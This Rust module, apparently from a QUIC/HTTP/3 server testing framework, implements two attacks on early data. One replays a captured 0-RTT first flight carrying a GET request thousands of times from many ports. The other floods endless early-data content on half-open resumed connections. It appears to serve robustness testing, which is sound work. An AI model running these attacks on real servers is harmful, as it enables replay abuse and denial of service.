//! Clients that abuse early data.

use std::time::Duration;

use courser_base::Time;

use crate::attack::{Attack, Expect, Pace, Plan, Victim};
use crate::attacker::Attacker;
use crate::connection::Connection;
use crate::early_client_tls;
use crate::hooks::Honest;
use crate::http::{self, Method};

use super::handshakes::OnlyInitials;

/// Obtains session tickets on honest connections, of which one exists at a time.
#[derive(Default)]
struct Tickets {
    key: Option<u64>,
    confirmed_at: Option<Time>,
}

impl Tickets {
    /// Returns true when the tickets of a connection have arrived. The next call starts another connection.
    fn poll(&mut self, attacker: &mut Attacker, now: Time) -> bool {
        let Some(key) = self.key else {
            self.key = Some(attacker.connect(0, Box::new(Honest)));
            return false;
        };
        let connection = attacker.peek(key);
        if connection.is_none_or(Connection::is_closed) {
            *self = Self::default();
            return false;
        }
        if !connection.is_some_and(Connection::is_confirmed) {
            return false;
        }
        // The tickets arrive with HANDSHAKE_DONE, or soon after it.
        let confirmed_at = *self.confirmed_at.get_or_insert(now);
        let has_arrived = now >= confirmed_at + Duration::from_millis(20);
        if has_arrived {
            attacker.forget(key);
            *self = Self::default();
        }
        has_arrived
    }
}

pub(super) const EARLY_REPLAY: Plan = Plan {
    name: "early-replay",
    labels: &["A61"],
    summary: "the same first flight with a request in early data, from many ports",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || Box::new(EarlyReplay::default()),
};

#[derive(Default)]
struct EarlyReplay {
    tickets: Tickets,
    /// The datagrams of the first flight that is repeated.
    flight: Vec<Vec<u8>>,
    copies: u32,
    /// The port of the last copy. All ports are in use at the same time.
    port: u16,
}

impl Attack for EarlyReplay {
    fn start(&mut self, attacker: &mut Attacker) {
        attacker.connect_with(early_client_tls(b"h3"));
    }

    fn turn(&mut self, attacker: &mut Attacker, now: Time) -> Pace {
        if !self.flight.is_empty() {
            self.replay(attacker);
        } else if self.tickets.poll(attacker, now) {
            self.record(attacker, now);
        }
        Pace::At(now + Duration::from_millis(10))
    }
}

impl EarlyReplay {
    /// Records the first flight of a connection that resumes a session, and abandons the connection.
    fn record(&mut self, attacker: &mut Attacker, now: Time) {
        let key = attacker.connect(1, Box::new(Honest));
        let connection = attacker.connection(key).expect("it was just created");
        if connection.begin_early() {
            connection.transmit(now);
            let request = http::request(Method::Get, "/");
            let id = http::request_stream(0);
            connection.send_early(&[http::stream(id, 0, &request, true)]);
            self.flight = std::iter::from_fn(|| connection.poll_datagram()).collect();
            self.copies = 0;
        }
        attacker.forget(key);
    }

    /// Sends eight copies. Another flight is recorded after 10 000.
    fn replay(&mut self, attacker: &mut Attacker) {
        for _ in 0..8 {
            self.copies += 1;
            self.port = self.port % 16 + 1;
            for bytes in &self.flight {
                attacker.send_raw(self.port, bytes.clone());
            }
        }
        if self.copies >= 10_000 {
            self.flight.clear();
        }
    }
}

pub(super) const EARLY_FLOOD: Plan = Plan {
    name: "early-flood",
    labels: &["A107"],
    summary: "endless 0-RTT packets on connections whose handshake never ends",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || Box::new(EarlyFlood::default()),
};

#[derive(Default)]
struct EarlyFlood {
    tickets: Tickets,
    flood: Option<Flood>,
}

/// A connection on which early data is sent.
struct Flood {
    key: u64,
    /// The next offset of the request stream.
    offset: u64,
    ends_at: Time,
}

impl Attack for EarlyFlood {
    fn start(&mut self, attacker: &mut Attacker) {
        attacker.connect_with(early_client_tls(b"h3"));
    }

    fn turn(&mut self, attacker: &mut Attacker, now: Time) -> Pace {
        if let Some(flood) = &mut self.flood {
            if !flood.send(attacker, now) {
                attacker.forget(flood.key);
                self.flood = None;
            }
        } else if self.tickets.poll(attacker, now) {
            self.flood = Flood::begin(attacker, now);
        }
        Pace::Now
    }
}

impl Flood {
    /// Resumes a session and sends a request whose content never ends.
    fn begin(attacker: &mut Attacker, now: Time) -> Option<Self> {
        let key = attacker.connect(1, Box::new(OnlyInitials));
        let connection = attacker.connection(key).expect("it was just created");
        if !connection.begin_early() {
            attacker.forget(key);
            return None;
        }
        // The ClientHello comes first.
        connection.transmit(now);
        let mut request = http::request(Method::Get, "/");
        request.extend(http::header(http::DATA, 1 << 40));
        connection.send_early(&[http::stream(http::request_stream(0), 0, &request, false)]);
        Some(Self {
            key,
            offset: request.len() as u64,
            ends_at: now + Duration::from_millis(50),
        })
    }

    /// Sends further content. Returns false if the flood has ended.
    fn send(&mut self, attacker: &mut Attacker, now: Time) -> bool {
        const CONTENT: [u8; 1100] = [0; 1100];
        let Some(connection) = attacker.connection(self.key) else {
            return false;
        };
        if now >= self.ends_at || connection.is_closed() {
            return false;
        }
        for _ in 0..64 {
            let id = http::request_stream(0);
            connection.send_early(&[http::stream(id, self.offset, &CONTENT, false)]);
            self.offset += CONTENT.len() as u64;
        }
        true
    }
}
